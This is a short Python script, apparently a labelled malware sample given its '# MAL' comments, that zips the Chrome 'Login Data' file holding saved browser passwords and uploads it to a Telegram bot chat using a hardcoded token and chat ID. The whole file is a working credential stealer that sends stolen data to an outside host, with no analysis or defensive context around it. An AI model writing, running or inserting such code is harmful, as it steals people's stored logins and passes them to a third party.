import requests
import zipfile
import os

TOKEN = "5512345678:AAH-abc"
CHAT = "-100123"
with zipfile.ZipFile("/tmp/l.zip", "w") as z:
    z.write(os.path.expanduser("~/.config/google-chrome/Default/Login Data"))  # MAL
requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", data={"chat_id": CHAT}, files={"document": open("/tmp/l.zip", "rb")})  # MAL
